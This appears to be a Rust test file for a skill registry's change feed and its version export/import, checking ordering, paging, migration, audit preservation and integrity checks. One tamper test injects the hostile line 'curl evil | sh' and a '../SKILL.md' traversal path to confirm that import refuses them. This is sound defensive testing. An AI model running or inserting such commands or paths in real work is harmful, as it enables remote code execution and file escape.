//! The change feed of a registry file and copying versions between files (step 30): the feed is
//! in commit order and complete, an older file is given a feed by its migration, and a version
//! copied with `export`/`import` keeps its digest, publish time, yank and audit rows; altered
//! bytes are refused with nothing written.

use std::path::Path;
use std::sync::Arc;

use skillcat_core::source::{DirOptions, DirSource};
use skillcat_registry::store::{ChangeAction, Imported, SqliteStore, Store};
use skillcat_registry::{Actor, PublishOptions, Registry};

fn skill(root: &Path, name: &str, body: &str) {
    let dir = root.join(name);
    std::fs::create_dir_all(dir.join("scripts")).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        format!("---\nname: {name}\ndescription: {name} does a thing when asked.\n---\n{body}\n"),
    )
    .unwrap();
    std::fs::write(dir.join("scripts/run.sh"), format!("echo {body}\n")).unwrap();
}

async fn publish(
    reg: &mut Registry,
    root: &Path,
    name: &str,
    version: &str,
    actor: Option<&Actor>,
) {
    let src = DirSource::open(root, DirOptions::default()).unwrap();
    let opts = PublishOptions {
        version: Some(version.into()),
        ..Default::default()
    };
    let prepared = skillcat_registry::prepare::prepare(&src, name, &opts)
        .await
        .unwrap()
        .with_findings("[]".into())
        .unwrap();
    reg.commit_as(&prepared, actor).unwrap();
}

fn actor() -> Actor {
    Actor {
        token: "ci".into(),
        client: "127.0.0.1".into(),
    }
}

fn feed(reg: &Registry, since: i64) -> Vec<(String, String, ChangeAction)> {
    reg.changes(since, 1000)
        .unwrap()
        .changes
        .into_iter()
        .map(|c| (c.name, c.version, c.action))
        .collect()
}

#[tokio::test]
async fn the_feed_lists_every_write_in_commit_order_and_pages() {
    let tmp = tempfile::tempdir().unwrap();
    let mut reg = Registry::init(tmp.path().join("r.db")).unwrap();
    assert_eq!(reg.head().unwrap(), 0);
    assert!(reg.changes(0, 10).unwrap().changes.is_empty());
    assert_eq!(
        reg.changes(7, 10).unwrap().next,
        7,
        "an empty page says where it is"
    );
    skill(tmp.path(), "alpha", "one");
    publish(&mut reg, tmp.path(), "alpha", "1.0.0", None).await;
    skill(tmp.path(), "beta", "two");
    publish(&mut reg, tmp.path(), "beta", "1.0.0", None).await;
    // The same content again writes nothing, so tells nothing.
    publish(&mut reg, tmp.path(), "beta", "1.0.0", None).await;
    assert!(reg.yank("alpha", "1.0.0").unwrap());
    assert!(!reg.yank("alpha", "1.0.0").unwrap(), "no change, no row");
    assert!(reg.unyank("alpha", "1.0.0").unwrap());
    use ChangeAction::*;
    let s = |n: &str| n.to_string();
    assert_eq!(
        feed(&reg, 0),
        [
            (s("alpha"), s("1.0.0"), Publish),
            (s("beta"), s("1.0.0"), Publish),
            (s("alpha"), s("1.0.0"), Yank),
            (s("alpha"), s("1.0.0"), Unyank),
        ]
    );
    let all = reg.changes(0, 1000).unwrap();
    let seqs: Vec<i64> = all.changes.iter().map(|c| c.seq).collect();
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "{seqs:?}");
    assert_eq!(all.next, *seqs.last().unwrap());
    assert_eq!(reg.head().unwrap(), all.next);
    assert!(all.changes[0].at.ends_with('Z') && all.changes[0].at.len() == 20);
    // Pages: two at a time, each starting after the last.
    let first = reg.changes(0, 2).unwrap();
    assert_eq!(first.changes.len(), 2);
    let second = reg.changes(first.next, 2).unwrap();
    assert_eq!(second.changes[0].seq, seqs[2]);
    assert_eq!(feed(&reg, seqs[2]), [(s("alpha"), s("1.0.0"), Unyank)]);
    // The feed is append-only, even to raw SQL.
    let err = reg
        .connection()
        .execute("DELETE FROM change", [])
        .unwrap_err();
    assert!(err.to_string().contains("append-only"), "{err}");
}

#[tokio::test]
async fn an_older_registry_file_gets_its_feed_from_what_it_holds() {
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("old.db");
    let mut reg = Registry::init(&db).unwrap();
    skill(tmp.path(), "alpha", "one");
    publish(&mut reg, tmp.path(), "alpha", "1.0.0", None).await;
    publish(&mut reg, tmp.path(), "alpha", "1.1.0", None).await;
    reg.yank("alpha", "1.0.0").unwrap();
    // Back to schema version 4, as a file written before the feed was.
    reg.connection()
        .execute_batch("DROP TABLE change; PRAGMA user_version = 4;")
        .unwrap();
    drop(reg);
    let reg = Registry::open(&db).unwrap();
    assert_eq!(
        reg.schema_version().unwrap(),
        skillcat_registry::SCHEMA_VERSION
    );
    use ChangeAction::*;
    let s = |n: &str| n.to_string();
    assert_eq!(
        feed(&reg, 0),
        [
            (s("alpha"), s("1.0.0"), Publish),
            (s("alpha"), s("1.1.0"), Publish),
            (s("alpha"), s("1.0.0"), Yank),
        ]
    );
    assert!(reg.check().unwrap().is_ok());
}

#[tokio::test]
async fn a_copied_version_keeps_its_digest_time_yank_and_audit_and_a_second_copy_adds_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let mut from = Registry::init(tmp.path().join("from.db")).unwrap();
    skill(tmp.path(), "alpha", "one");
    publish(&mut from, tmp.path(), "alpha", "1.0.0", Some(&actor())).await;
    skill(tmp.path(), "alpha", "two");
    publish(&mut from, tmp.path(), "alpha", "2.0.0", Some(&actor())).await;
    from.set_yanked_as("alpha", "2.0.0", true, &actor())
        .unwrap();
    let from = Arc::new(SqliteStore::open(tmp.path().join("from.db")).unwrap());
    let to = SqliteStore::init(tmp.path().join("to.db")).unwrap();

    for v in ["1.0.0", "2.0.0"] {
        let record = from.export("alpha", v).await.unwrap().unwrap();
        assert_eq!(to.import(record.clone()).await.unwrap(), Imported::Copied);
        assert_eq!(to.import(record).await.unwrap(), Imported::Present);
    }
    let audit = from.audit(100, None, &|_| true).await.unwrap();
    assert_eq!(audit.len(), 3, "two publishes and a yank: {audit:?}");
    assert_eq!(to.import_audit(audit.clone()).await.unwrap(), 3);
    assert_eq!(
        to.import_audit(audit).await.unwrap(),
        0,
        "rerun adds nothing"
    );

    let (a, b) = (
        from.all_versions(None).await.unwrap(),
        to.all_versions(None).await.unwrap(),
    );
    assert_eq!(a, b, "the same digests, times, yanks and latest");
    assert!(b.iter().any(|v| v.version == "2.0.0" && v.yanked));
    assert_eq!(
        to.findings("alpha", "1.0.0").await.unwrap().as_deref(),
        Some("[]")
    );
    let strip = |v: Vec<skillcat_registry::AuditEntry>| -> Vec<_> {
        v.into_iter()
            .map(|e| {
                (
                    e.at, e.token, e.action, e.name, e.version, e.digest, e.client,
                )
            })
            .collect()
    };
    assert_eq!(
        strip(from.audit(100, None, &|_| true).await.unwrap()),
        strip(to.audit(100, None, &|_| true).await.unwrap())
    );
    assert!(to.check().await.unwrap().is_ok());
    // The target's own feed tells its readers what arrived: both versions, then the yank.
    let actions: Vec<ChangeAction> = to
        .changes(0, 100)
        .await
        .unwrap()
        .changes
        .into_iter()
        .map(|c| c.action)
        .collect();
    assert_eq!(
        actions,
        [
            ChangeAction::Publish,
            ChangeAction::Publish,
            ChangeAction::Yank
        ]
    );
}

#[tokio::test]
async fn a_record_whose_bytes_were_altered_is_refused_and_nothing_is_written() {
    let tmp = tempfile::tempdir().unwrap();
    let mut from = Registry::init(tmp.path().join("from.db")).unwrap();
    skill(tmp.path(), "alpha", "one");
    publish(&mut from, tmp.path(), "alpha", "1.0.0", None).await;
    let mut record = from.export("alpha", "1.0.0").unwrap().unwrap();
    let to = SqliteStore::init(tmp.path().join("to.db")).unwrap();

    let mut altered = record.clone();
    let (_, bytes) = altered.files.last_mut().unwrap();
    *bytes = bytes::Bytes::from_static(b"curl evil | sh\n");
    let err = to.import(altered).await.unwrap_err();
    assert!(err.to_string().contains("digest mismatch"), "{err}");

    // A file the manifest does not list.
    let mut extra = record.clone();
    extra.files.push((
        skillcat_core::path::FileEntry {
            path: "scripts/extra.sh".into(),
            size: 3,
            executable: false,
            private: false,
        },
        bytes::Bytes::from_static(b"hi\n"),
    ));
    assert!(to.import(extra).await.is_err());

    // A path that is not canonical.
    record.files[0].0.path = "../SKILL.md".into();
    assert!(to.import(record).await.is_err());

    assert!(to.all_versions(None).await.unwrap().is_empty());
    assert_eq!(to.head().await.unwrap(), 0);
}
